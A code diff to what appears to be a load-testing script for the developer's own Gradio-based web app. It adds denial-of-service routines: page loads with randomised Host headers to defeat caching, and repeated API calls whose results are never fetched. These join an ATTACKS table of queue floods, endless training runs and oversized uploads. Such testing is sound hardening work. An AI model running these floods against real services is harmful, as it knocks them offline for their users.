@@ -96,10 +96,20 @@ def flood_joins(address: str, until: float) -> None:
 def load_the_page(address: str, until: float) -> None:
     """Load the page and its largest script over and over, by another name each time."""
     stranger, script = Stranger(address), f"studio/{version('plotly')}/plotly.min.js"
+    host = urlsplit(address).hostname
     while time.monotonic() < until:
         for path in ("/", "/config", f"/{script}"):
-            headers = {"x-forwarded-proto": secrets.token_hex(4), "range": "bytes=1-"}
-            stranger.http.get(path, headers=headers)
+            name = f"{host}:{secrets.randbelow(60_000) + 1}"
+            stranger.http.get(
+                path, headers={"host": name, "x-forwarded-proto": secrets.token_hex(4), "range": "bytes=1-"}
+            )
+
+
+def fetch_nothing(address: str, until: float) -> None:
+    """Ask for long answers and fetch none of them."""
+    stranger = Stranger(address)
+    while time.monotonic() < until:
+        stranger.http.post("/gradio_api/call/list_tasks", json={"data": []})
 
 
 def train_for_ever(address: str, until: float) -> None:
@@ -205,6 +215,7 @@ def make_parquet() -> bytes:
 ATTACKS: dict[str, Callable[[str, float], None]] = {
     "joins of the queue": flood_joins,
     "loads of the page": load_the_page,
+    "answers that nobody fetches": fetch_nothing,
     "runs of five years": train_for_ever,
     "bodies of 30 MB": send_large_bodies,
     "uploads of 20 MB": upload_much,
